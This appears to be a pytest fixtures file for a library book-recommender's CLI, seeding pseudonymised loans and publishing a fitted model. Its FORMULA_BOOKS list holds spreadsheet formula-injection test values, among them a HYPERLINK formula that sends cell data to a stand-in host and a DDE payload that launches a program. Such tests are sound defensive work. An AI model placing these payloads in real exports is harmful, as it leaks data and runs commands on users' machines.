"""Fixtures of the CLI tests: a database of loans and a published model of them."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest
from sqlalchemy import Engine, insert

from recsys import artifacts
from recsys.columns import Columns as C
from recsys.config import Settings, get_settings
from recsys.data.dataset import Dataset
from recsys.db.tables import loans as loans_table
from recsys.models.registry import build_model
from recsys.privacy import Pseudonymizer

KEY = "serving-commands-key-" + "7" * 32
BOOKS = [f"b{i}" for i in range(8)]
#: Catalog ids a spreadsheet would run as formulas (the last two stay plain).
FORMULA_BOOKS = ['=HYPERLINK("https://x.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1)"]
FORMULA_BOOKS += ["=cmd|' /C calc'!A0", "+A2", "b6", "b7"]


def raw_loans(books: list[str] = BOOKS) -> pd.DataFrame:
    rows = [
        (f"r{r}", books[(r + j) % 8], 1_700_000_000 + 3600 * (r * 3 + j))
        for r in range(12)
        for j in range(3)
    ]
    return pd.DataFrame(rows, columns=[C.READER_ID, C.BOOK_ID, C.TIMESTAMP])


@pytest.fixture
def published(
    request: pytest.FixtureRequest,
    db_settings: Settings,
    engine: Engine,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
) -> Iterator[list[str]]:
    """Two saved runs of a model of the loans in the database; the first one published.

    The books are `BOOKS` unless the test passes others (indirect parametrization)."""
    books: list[str] = getattr(request, "param", BOOKS)
    loans = raw_loans(books)
    loans[C.READER_ID] = Pseudonymizer(KEY.encode()).pseudonymize_series(loans[C.READER_ID])
    with engine.begin() as connection:
        connection.execute(
            insert(loans_table),
            [
                {"reader_id": r, "book_id": b, "borrowed_at": int(t), "event": "loan"}
                for r, b, t in loans.itertuples(index=False)
            ],
        )
    catalog = pd.DataFrame(  # as MARC exports hold them: ISBD punctuation, life dates
        {
            C.BOOK_ID: books,
            C.TITLE: [f"T{b} : a tale /" for b in books],
            C.AUTHOR: [f"A{b}, 1950-...." for b in books],
        }
    )
    holdings = pd.DataFrame({C.BOOK_ID: books, C.LIBRARY_ID: "CEN"})
    interactions = loans.assign(
        **{C.TIMESTAMP: pd.to_datetime(loans[C.TIMESTAMP], unit="s", utc=True)}
    )
    model = build_model("hybrid", factors=4, iterations=2, min_pair_support=2, random_state=3)
    model.fit(Dataset.from_interactions(interactions, catalog, holdings))
    runs = []
    for _ in range(2):
        run_id = artifacts.new_run_id()
        artifacts.save_bundle(
            db_settings.models_dir,
            run_id,
            model,
            catalog=catalog,
            holdings=holdings,
            erasures_applied=0,
            manifest_extra={},
        )
        runs.append(run_id)
    runs.sort()
    artifacts.publish(db_settings.models_dir, runs[0], latest_erasure=0)
    for name, value in (
        ("DATABASE_URL", db_settings.resolved_database_url),
        ("MODELS_DIR", str(db_settings.models_dir)),
        ("DATA_DIR", str(db_settings.data_dir)),
        ("PSEUDONYM_KEY", KEY),
        ("API_KEYS_FILE", str(tmp_path / "absent")),
    ):
        monkeypatch.setenv(f"RECSYS_{name}", value)
    get_settings.cache_clear()
    yield runs
    get_settings.cache_clear()
